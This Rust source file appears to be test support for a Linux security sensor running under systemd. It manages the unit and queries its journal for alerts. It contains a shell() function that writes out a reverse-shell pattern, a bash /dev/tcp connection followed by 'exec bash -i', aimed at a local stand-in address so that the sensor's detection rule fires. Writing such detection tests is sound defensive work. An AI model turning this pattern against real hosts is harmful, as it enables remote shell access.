//! The sensor's unit, and reverse shells for it to see.

use anyhow::{Context, Result, ensure};
use jiff::Timestamp;
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::thread;
use std::time::{Duration, Instant};

/// Configuration of the sensor.
pub(crate) const CONFIG: &str = "/etc/sensor/sensor.toml";
/// Additions to the unit.
const DROP_INS: &str = "/run/systemd/system/sensor.service.d";
/// An address of this system's own; at the port nobody listens: a connection is refused, and counts.
pub(crate) const FAR: &str = "203.0.113.7";
const NOBODY_LISTENS: u16 = 9;
/// How long anything may take, also on an emulated processor.
const PATIENCE: Duration = Duration::from_secs(180);

/// The unit.
pub(crate) struct Unit {
    config: String,
    shells: u32,
    /// What it was installed from.
    pub(crate) package: Option<PathBuf>,
    /// When it was active and when the network began, in microseconds of systemd's clock, at the start of this system.
    pub(crate) started: (u64, u64),
    /// Whether /proc shows the processes that the kernel side names.
    pub(crate) whole_proc: bool,
}

impl Unit {
    /// The unit as the start of this system has left it.
    pub(crate) fn as_booted(package: Option<PathBuf>) -> Result<Self> {
        // The number of the initial namespace is fixed in the kernel (PROC_PID_INIT_INO).
        let whole_proc = fs::read_link("/proc/self/ns/pid")?.as_os_str() == "pid:[4026531836]";
        let mut unit = Self { config: fs::read_to_string(CONFIG)?, shells: 0, package, started: (0, 0), whole_proc };
        if let Err(error) = unit.wait_for("ActiveState", "active") {
            // Nothing else says why a service is not there.
            let said =
                output(&["journalctl", "--no-pager", "--lines=40", "--unit=sensor", "--unit=systemd-modules-load"])?;
            return Err(error.context(String::from_utf8_lossy(&said.stdout).into_owned()));
        }
        let reached = |name: &str| -> Result<u64> {
            let text = run(&["systemctl", "show", "--value", "--property=ActiveEnterTimestampMonotonic", name])?;
            text.trim().parse().with_context(|| format!("{name}: {text}"))
        };
        unit.started = (reached("sensor.service")?, reached("network-pre.target")?);
        run(&["ip", "link", "set", "lo", "up"])?;
        run(&["ip", "address", "replace", &format!("{FAR}/32"), "dev", "lo"])?;
        Ok(unit)
    }

    /// Runs it anew as it was installed, whatever a test has changed.
    pub(crate) fn as_installed(&self) -> Result<()> {
        fs::write(CONFIG, &self.config)?;
        if Path::new(DROP_INS).exists() {
            fs::remove_dir_all(DROP_INS)?;
        }
        run(&["systemctl", "daemon-reload"])?;
        run(&["systemctl", "reset-failed", "sensor"])?;
        self.restart()
    }

    /// Stops and starts it.
    pub(crate) fn restart(&self) -> Result<()> {
        run(&["systemctl", "restart", "sensor"]).map(drop)
    }

    /// Stops it, and starts it in vain: it ends with this status, says why, and is not tried again.
    pub(crate) fn gives_up(&self, status: &str, reason: &str) -> Result<()> {
        let restart = output(&["systemctl", "restart", "sensor"])?;
        ensure!(!restart.status.success(), "it started");
        self.expect("ActiveState", "failed")?;
        self.expect("ExecMainStatus", status)?;
        self.expect("NRestarts", "0")?;
        let said = self.property("StatusText")?;
        ensure!(said.contains(reason), "{reason:?} is not in {said:?}");
        Ok(())
    }

    /// Sends it a signal.
    pub(crate) fn kill(&self, signal: &str) -> Result<()> {
        run(&["systemctl", "kill", &format!("--signal={signal}"), "sensor"]).map(drop)
    }

    /// Adds to the unit, from the next start on.
    pub(crate) fn add(&self, text: &str) -> Result<()> {
        fs::create_dir_all(DROP_INS)?;
        fs::write(Path::new(DROP_INS).join("test.conf"), text)?;
        run(&["systemctl", "daemon-reload"]).map(drop)
    }

    /// Writes another configuration.
    pub(crate) fn configure(&self, text: &str) -> Result<()> {
        Ok(fs::write(CONFIG, text)?)
    }

    /// Has it read its configuration again, and waits until it says `answer`.
    pub(crate) fn reload(&self, answer: &str) -> Result<()> {
        let before = self.said(answer)?;
        run(&["systemctl", "reload", "sensor"])?;
        until(&format!("{answer} in the journal"), || Ok((self.said(answer)? > before).then_some(())))
    }

    /// What systemd says of it.
    pub(crate) fn property(&self, name: &str) -> Result<String> {
        let value = run(&["systemctl", "show", "--value", "--property", name, "sensor"])?;
        Ok(value.trim_end().to_owned())
    }

    /// Checks what systemd says of it.
    pub(crate) fn expect(&self, name: &str, expected: &str) -> Result<()> {
        let value = self.property(name)?;
        ensure!(value == expected, "{name} is {value:?}, expected {expected:?}");
        Ok(())
    }

    /// Waits for what systemd says of it.
    pub(crate) fn wait_for(&self, name: &str, expected: &str) -> Result<()> {
        let mut value = String::new();
        let result = until(&format!("{name} to be {expected}"), || {
            value = self.property(name)?;
            Ok((value == expected).then_some(()))
        });
        result.with_context(|| format!("it is {value:?}"))
    }

    /// Its process.
    pub(crate) fn process(&self) -> Result<u32> {
        Ok(self.property("MainPID")?.parse()?)
    }

    /// The kinds of hooks that see connections attempted and accepted, by its status.
    pub(crate) fn hooks(&self) -> Result<(String, String)> {
        let status = self.property("StatusText")?;
        let of = |fact: &str| {
            let word = status.split([' ', ';']).find_map(|word| word.strip_prefix(fact)?.strip_prefix('='));
            word.map(str::to_owned).with_context(|| format!("no {fact} in the status {status:?}"))
        };
        Ok((of("connect")?, of("accept")?))
    }

    /// A word by which the alert of a shell is known.
    pub(crate) fn marker(&mut self) -> String {
        self.shells += 1;
        format!("shell-{}-of-{}", self.shells, std::process::id())
    }

    /// Makes a reverse shell: the connecting process executes the shell, which ends since there is no such script.
    pub(crate) fn reverse_shell(&mut self) -> Result<String> {
        let marker = self.marker();
        shell(&marker)?;
        Ok(marker)
    }

    /// The alert about a shell, if there is one in the journal.
    pub(crate) fn alert(&self, marker: &str) -> Result<Option<Value>> {
        let fields =
            ["journalctl", "--unit=sensor", "--all", "--output=json", "SENSOR_RULE_ID=reverse-shell-via-child"];
        for line in run(&fields)?.lines() {
            let entry: Value = serde_json::from_str(line).context("journalctl")?;
            let text = entry.get("SENSOR_ALERT").and_then(Value::as_str).context("an entry without its alert")?;
            let alert: Value = serde_json::from_str(text).context("SENSOR_ALERT")?;
            if alert.pointer("/process/args/2").and_then(Value::as_str) == Some(marker) {
                return Ok(Some(alert));
            }
        }
        Ok(None)
    }

    /// Waits for the alert about a shell.
    pub(crate) fn alerted(&self, marker: &str) -> Result<Value> {
        until("the alert in the journal", || self.alert(marker))
    }

    /// Makes a reverse shell and waits for its alert.
    pub(crate) fn alerts(&mut self) -> Result<Value> {
        let marker = self.reverse_shell()?;
        self.alerted(&marker)
    }

    /// How often it has said something.
    pub(crate) fn said(&self, what: &str) -> Result<usize> {
        let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
        Ok(journal.lines().filter(|line| line.contains(what)).count())
    }

    /// The last line in which it has said something, from there on.
    pub(crate) fn last_said(&self, what: &str) -> Result<String> {
        let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
        let place = journal.rfind(what).with_context(|| format!("it has not said {what}"))?;
        Ok(journal.get(place..).and_then(|rest| rest.lines().next()).unwrap_or_default().to_owned())
    }

    /// In which time nobody has watched, as it has said last.
    pub(crate) fn unwatched(&self) -> Result<Option<(Timestamp, Timestamp)>> {
        let journal = run(&["journalctl", "--unit=sensor", "--output=cat"])?;
        let Some((_, said)) = journal.rsplit_once("nobody has watched from ") else { return Ok(None) };
        let mut times = said.split([' ', ',']).filter_map(|word| word.parse::<Timestamp>().ok());
        times.next().zip(times.next()).context("no two times").map(Some)
    }

    /// The end of its journal.
    pub(crate) fn journal(&self) -> String {
        run(&["journalctl", "--unit=sensor", "--lines=25", "--output=cat"]).unwrap_or_else(|error| format!("{error:#}"))
    }
}

/// A process connects, and becomes an interactive shell whose script has this name.
pub(crate) fn shell(name: &str) -> Result<()> {
    let script = format!(": < /dev/tcp/{FAR}/{NOBODY_LISTENS}; exec bash -i {name}");
    output(&["bash", "-c", &script]).map(drop)
}

/// Runs a program, and returns what it printed.
pub(crate) fn run(words: &[&str]) -> Result<String> {
    let output = output(words)?;
    let errors = String::from_utf8_lossy(&output.stderr);
    ensure!(output.status.success(), "`{}` failed: {}\n{errors}", words.join(" "), output.status);
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}

/// Runs a program, whatever comes of it.
pub(crate) fn output(words: &[&str]) -> Result<Output> {
    let [program, arguments @ ..] = words else { anyhow::bail!("no program") };
    let mut command = Command::new(program);
    command.args(arguments).stdin(Stdio::null()).env("LC_ALL", "C").env("SYSTEMD_PAGER", "");
    command.output().with_context(|| format!("cannot run {program}"))
}

/// Asks again and again until there is an answer.
pub(crate) fn until<T>(what: &str, mut ask: impl FnMut() -> Result<Option<T>>) -> Result<T> {
    let start = Instant::now();
    loop {
        if let Some(answer) = ask()? {
            return Ok(answer);
        }
        ensure!(start.elapsed() < PATIENCE, "waited {} s for {what}", PATIENCE.as_secs());
        thread::sleep(Duration::from_millis(20));
    }
}
